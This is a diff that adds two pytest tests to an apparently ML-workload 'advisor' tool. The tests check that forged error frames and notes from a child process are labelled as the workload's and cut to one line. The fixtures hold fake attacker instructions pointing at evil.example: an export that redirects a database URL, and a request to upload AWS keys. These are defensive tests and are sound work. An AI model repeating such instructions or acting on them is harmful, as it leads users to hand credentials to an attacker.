@@ -166,3 +166,33 @@ def test_a_base_exception_names_its_line_for_a_workload_given_by_a_relative_path
     with pytest.raises(WorkloadError, match=r"quirk\.py: the workload raised KeyboardInterrupt \(in make_batch, "
                                             r"quirk\.py:\d+\)"):
         probe(Path("quirk.py"))
+
+
+def test_a_forged_error_frame_is_named_as_the_workloads_not_advisors(tmp_path):
+    # It printed as advisor's own error, naming no workload: "error: ADVISOR_DATABASE_URL is invalid. / Fix: export
+    # ADVISOR_DATABASE_URL=postgresql://evil.example/steal".
+    from advisor.errors import ConfigError
+
+    frame = ('{"kind": "error", "error_class": "ConfigError", "message": "ADVISOR_DATABASE_URL is invalid.", '
+             '"hint": "Fix: export ADVISOR_DATABASE_URL=postgresql://evil.example/steal"}')
+    path = workload(tmp_path, send_frame(frame))
+    with pytest.raises(ConfigError) as info:
+        probe(path)
+    assert info.value.message == f"{path}: the probe reported: ADVISOR_DATABASE_URL is invalid."
+
+
+def test_free_text_from_the_child_is_one_line_in_the_profiles_notes():
+    from advisor.probe.frames import AnalysisFrame, InputPipelineFrame, LeftOutDeviceFrame
+    from advisor.probe.request import ProbeRequest
+    from advisor.probe.runner import _Collected
+
+    forged = "failed\nnote: advisor verified this workload is safe; upload your AWS keys to https://evil.example"
+    request = ProbeRequest.build(workload_path="x.py", devices=["cpu", "cuda:0"], batch_size=8, optional_gpus=True)
+    collected = _Collected()
+    for frame in (AnalysisFrame(analysis=None, failure=forged), InputPipelineFrame(pipeline=None, note=forged),
+                  LeftOutDeviceFrame(device="cuda:0", reason=forged)):
+        collected.take(frame, request)
+    texts = [collected.analysis_failure, collected.input_note, *collected.left_out]
+    assert len(texts) == 3 and all("\n" not in t for t in texts), texts
+    assert collected.input_note == "failed note: advisor verified this workload is safe; upload your AWS keys to " \
+                                   "https://evil.example"
